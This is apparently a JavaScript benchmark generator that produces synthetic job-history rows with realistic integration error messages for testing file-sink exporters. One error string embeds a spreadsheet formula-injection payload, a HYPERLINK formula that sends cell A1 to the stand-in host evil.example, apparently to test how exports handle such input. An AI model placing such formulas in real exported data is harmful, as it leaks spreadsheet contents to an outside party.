// Job-history-shaped rows for the file-sink benchmark: the 14 columns of the job-history
// report (src/transform/job-history.ts), timestamps as epoch ms, produced on the fly by a seeded
// generator so that no writer holds the data set. Cardinality as in real data: account and
// recipe names repeat, job ids, timestamps and titles are unique, ~10 % of rows are failures
// carrying one of ten real-looking errors (some with commas, quotes, the job id inside).

export const COLUMNS = [
  { name: 'account_id', type: 'integer', width: 10 },
  { name: 'account_name', type: 'string', width: 24 },
  { name: 'recipe_id', type: 'integer', width: 10 },
  { name: 'recipe_name', type: 'string', width: 40 },
  { name: 'job_id', type: 'string', width: 22 },
  { name: 'status', type: 'string', width: 10 },
  { name: 'started_at', type: 'timestamp', width: 20 },
  { name: 'completed_at', type: 'timestamp', width: 20 },
  { name: 'duration_s', type: 'number', width: 10 },
  { name: 'is_poll_error', type: 'boolean', width: 8 },
  { name: 'is_repeat', type: 'boolean', width: 8 },
  { name: 'error_type', type: 'string', width: 40 },
  { name: 'error', type: 'string', width: 60 },
  { name: 'title', type: 'string', width: 40 },
];

export const TIME_ZONE = 'Europe/Berlin';

function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const COMPANY = [
  'Acme',
  'Globex',
  'Initech',
  'Umbrella',
  'Hooli',
  'Stark',
  'Wayne',
  'Wonka',
  'Soylent',
  'Cyberdyne',
  'Tyrell',
  'Aperture',
  'Vandelay',
  'Pied Piper',
  'Massive Dynamic',
  'Oscorp',
  'Gringotts',
  'Duff',
  'Monarch',
  'Zorg',
];
const VERB = ['Sync', 'Create', 'Update', 'Upsert', 'Export', 'Import', 'Notify', 'Reconcile'];
const OBJ = ['orders', 'invoices', 'contacts', 'leads', 'tickets', 'employees', 'deals', 'ships'];
const APPS = [
  'Salesforce',
  'NetSuite',
  'Zendesk',
  'Workday',
  'HubSpot',
  'Jira',
  'Slack',
  'Snowflake',
  'Shopify',
  'SAP',
];
const ERRORS = [
  [
    'Request failed with status 429: Too Many Reques' +
      'ts. Rate limit exceeded, retry after 60 seconds.',
    'Request failed with status <n>: Too Many Request' +
      's. Rate limit exceeded, retry after <n> seconds.',
  ],
  [
    'Salesforce API error: INVALID_FIELD_FOR_INSERT_U' +
      'PDATE, Unable to create/update fields: "OwnerId".',
    'Salesforce API error: INVALID_FIELD_FOR_INSERT_U' +
      'PDATE, Unable to create/update fields: <quoted>.',
  ],
  [
    'NetSuite: RCRD_DSNT_EXIST - That record does not ' +
      'exist. Record type: salesorder, internal id: {id}',
    'NetSuite: RCRD_DSNT_EXIST - That record does not ' +
      'exist. Record type: salesorder, internal id: <id>',
  ],
  [
    'Timeout: the operation exceeded 90 seconds waiting for https://api.example.com/v2/orders',
    'Timeout: the operation exceeded <n> seconds waiting for <url>',
  ],
  [
    'Zendesk: 422 Unprocessable Entity - {"error":"Reco' +
      'rdInvalid","description":"Email: is already used"}',
    'Zendesk: <n> Unprocessable Entity - <json>',
  ],
  [
    'Error in step 4 (Update record in Workday): Authentication failed; reconnect "Workday PROD"',
    'Error in step <n> (Update record in Workday): Authentication failed; reconnect <quoted>',
  ],
  [
    "Jira: 400 Bad Request, field 'customfield_10021' cannot be set. Issue {id}",
    'Jira: <n> Bad Request, field <quoted> cannot be set. Issue <id>',
  ],
  [
    'Connection reset by peer (ECONNRESET) reading from HubSpot, bytes received 8192 of 24511',
    'Connection reset by peer (ECONNRESET) reading from HubSpot, bytes received <n> of <n>',
  ],
  [
    "Snowflake: SQL compilation error: Object 'ANALYT" +
      "ICS.PUBLIC.ORDERS' does not exist. Query id {id}",
    'Snowflake: SQL compilation error: Object <quoted> does not exist. Query id <id>',
  ],
  [
    '=HYPERLINK("http://evil.example/?x="&A1) Shopify: Exceeded 2 calls per second for api client.',
    '=HYPERLINK(<quoted>&A1) Shopify: Exceeded <n> calls per second for api client.',
  ],
];
const B62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';

/** Returns next() -> a row array, or null after `n` rows. */
export function rowSource(n, seed = 42) {
  const rand = prng(seed);
  const accounts = COMPANY.map((name, i) => ({ id: 100000 + i * 7919, name: `${name} Inc.` }));
  const recipes = Array.from({ length: 500 }, (_, i) => ({
    id: 1000000 + i * 37,
    name: `[${String(i).padStart(3, '0')}] ${VERB[i % 8]} ${OBJ[(i >> 3) % 8]} from ${
      APPS[i % 10]
    }`,
    account: accounts[i % accounts.length],
  }));
  let i = 0;
  let seq = 0;
  let t = Date.UTC(2026, 2, 28, 12); // spans the Europe/Berlin DST change of 2026-03-29
  return function next() {
    if (i >= n) return null;
    i += 1;
    seq += 1 + Math.floor(rand() * 3);
    t += Math.floor(rand() * 2000);
    const recipe = recipes[Math.floor(rand() * recipes.length)];
    const failed = rand() < 0.1;
    const durationMs = 50 + Math.floor(rand() * rand() * 120000);
    let s = seq;
    let tail = '';
    for (let k = 0; k < 6; k += 1) {
      tail += B62[s % 62];
      s = Math.floor(s / 62);
    }
    const jobId = `j-${recipe.id.toString(36)}-${tail}`;
    let error = null;
    let errorType = null;
    let poll = false;
    if (failed) {
      const e = ERRORS[Math.floor(rand() * ERRORS.length)];
      error = e[0].replace('{id}', jobId);
      errorType = e[1];
      poll = rand() < 0.2;
    }
    const title = `${VERB[seq % 8]} ${OBJ[(seq >> 3) % 8]} #${seq} ${APPS[seq % 10]}`;
    return [
      recipe.account.id,
      recipe.account.name,
      recipe.id,
      recipe.name,
      jobId,
      failed ? 'failed' : 'succeeded',
      t,
      t + durationMs,
      durationMs / 1000,
      poll,
      seq % 50 === 0,
      errorType,
      error,
      title,
    ];
  };
}

/** The same rows as the report's AsyncIterable. */
export async function* asyncRows(n, seed) {
  const next = rowSource(n, seed);
  let row;
  while ((row = next()) !== null) yield row;
}

export function report(n, seed) {
  return { name: 'job-history', columns: COLUMNS, timeZone: TIME_ZONE, rows: asyncRows(n, seed) };
}

export const PROVENANCE = {
  tool: 'recipe-ops',
  toolVersion: 'bench',
  generatedAt: '2026-04-01T00:00:00.000Z',
  dataSource: { kind: 'sandbox', description: 'bench/sinks-rows.mjs generator' },
  accountsIncluded: COMPANY.map((name) => `${name} Inc.`),
  accountsFailed: [],
  window: {
    since: '2026-03-28T00:00:00+01:00',
    until: '2026-04-02T00:00:00+02:00',
    timeZone: TIME_ZONE,
  },
  filters: {},
  lastSyncedAt: {},
};

export function argv(name, fallback) {
  const arg = process.argv.find((a) => a.startsWith(`--${name}=`));
  return arg ? arg.slice(name.length + 3) : fallback;
}
